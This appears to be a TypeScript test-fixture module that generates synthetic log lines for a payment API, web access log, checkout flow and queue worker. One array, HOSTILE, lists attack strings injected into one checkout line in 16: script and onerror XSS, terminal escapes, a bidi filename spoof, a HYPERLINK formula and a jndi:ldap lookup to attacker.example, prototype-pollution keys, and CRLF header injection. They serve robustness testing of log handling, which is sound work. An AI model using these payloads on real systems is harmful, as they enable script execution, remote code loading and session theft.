import { hash32 } from "./generated-events.ts";

const ROUTES = ["POST /v1/charges", "GET /v1/charges", "POST /v1/refunds", "GET /v1/balance", "POST /v1/customers", "GET /v1/payouts"];
const FAILURES = ["card declined", "upstream timeout", "could not serialize access", "connection reset by peer"];

/** A line of an HTTP service: JSON, of which one in 100 is an error and five in 100 are slow requests, and sometimes plain text. */
export function writePaymentLine(index: number, random: number): string {
  const kind = random % 100;
  const route = ROUTES[(random >>> 8) % ROUTES.length] ?? "GET /";
  const id = requestId(random);
  const ms = 8 + ((random >>> 4) % 90);
  if (kind === 0) {
    const status = (random >>> 12) % 3 === 0 ? 503 : 500;
    return `{"level":"error","msg":"${route}: ${FAILURES[(random >>> 16) % FAILURES.length]}","status":${status},"request_id":"${id}","ms":${ms * 30},"attempt":${1 + (index % 3)}}`;
  }
  if (kind === 1) return `healthz ok pid=${1 + (random % 64)} open=${random % 400}`;
  if (kind < 7) return `{"level":"warn","msg":"${route}: slow","status":200,"request_id":"${id}","ms":${ms * 12}}`;
  const status = kind < 10 ? 404 : kind < 30 ? 201 : 200;
  return `{"level":"info","msg":"${route}","status":${status},"request_id":"${id}","ms":${ms}}`;
}

/** The request ID of the event with this random number. */
function requestId(random: number): string {
  return `req_${hex(random)}${hex(hash32(random + 1))}`;
}

const hex = (number: number) => number.toString(16).padStart(8, "0");

/** A line of a web server's access log: plain text with columns separated by spaces. */
export function writeAccessLine(index: number, random: number, timestamp: number): string {
  const status = random % 50 === 0 ? 502 : random % 11 === 0 ? 404 : 200;
  const when = new Date(timestamp).toISOString().slice(0, 19);
  return `10.${random % 4}.${(random >>> 4) % 256}.${(random >>> 12) % 256} - - [${when}Z] "GET /items/${index % 5000} HTTP/1.1" ${status} ${200 + (random % 9000)} ${(random % 900) / 1000}`;
}

const PAGES = ["/cart", "/cart/items", "/address", "/pay", "/thanks"];

/** What an attacker can get into a log: markup, terminal escapes, bidirectional overrides, formulas, prototype keys, very long lines. */
const HOSTILE: readonly string[] = [
  `<img src=x onerror="document.title='owned'"> in the name field`,
  "<script>alert(1)</script>",
  "\u001b[31mred\u001b[0m \u001b]0;owned\u0007 \u001b[2J terminal escapes",
  "invoice\u202Efdp.exe reversed by a bidi override",
  "zero\u200Bwidth\u200Bspaces and a \uFEFF byte order mark",
  `=HYPERLINK("http://attacker.example","click")`,
  `{"level":"info","__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}},"msg":"prototype keys"}`,
  `{"level":"info","msg":"unclosed`,
  "$\u007bjndi:ldap://attacker.example/a} {{7*7}} %s%n",
  `\r\nHTTP/1.1 200 OK\r\nSet-Cookie: session=stolen`,
  `long ${"x".repeat(9000)}`,
  "emoji 👩‍👩‍👧‍👦 and combining Z̷̢̛a̴l̵g̶o̷",
];

/** A line of a web shop: JSON, and one in 16 is hostile text. */
export function writeCheckoutLine(index: number, random: number): string {
  if (random % 16 === 0) return HOSTILE[(random >>> 8) % HOSTILE.length] ?? "";
  const page = PAGES[(random >>> 4) % PAGES.length] ?? "/";
  const level = random % 40 === 1 ? "error" : random % 12 === 1 ? "warn" : "info";
  const status = level === "error" ? 500 : level === "warn" ? 429 : 200;
  return `{"level":"${level}","msg":"GET ${page}","status":${status},"request_id":"${requestId(random)}","ms":${5 + (random % 400)},"cart":{"items":${index % 9}}}`;
}

const TASKS = ["capture", "settle", "notify", "reconcile", "expire"];

/** A line of a queue worker: JSON with nested fields, sometimes a stack trace of several lines. */
export function writeWorkerLine(index: number, random: number): string {
  const task = TASKS[random % TASKS.length] ?? "capture";
  const id = requestId(random);
  const kind = (random >>> 8) % 60;
  if (kind === 0) {
    return `Error: task ${task} failed after 3 attempts (${id})\n    at run (/srv/worker/run.js:${20 + (random % 200)}:11)\n    at async drain (/srv/worker/queue.js:58:5)`;
  }
  const level = kind < 3 ? "error" : kind < 8 ? "warn" : "info";
  const msg = level === "info" ? "done" : level === "warn" ? "retrying" : "gave up";
  return `{"level":"${level}","msg":"${task} ${msg}","status":${level === "error" ? 500 : 200},"request_id":"${id}","ms":${20 + (random % 2000)},"job":{"id":${index % 1_000_000},"task":"${task}","attempt":${1 + (kind % 3)}},"tags":["worker","${task}"]}`;
}
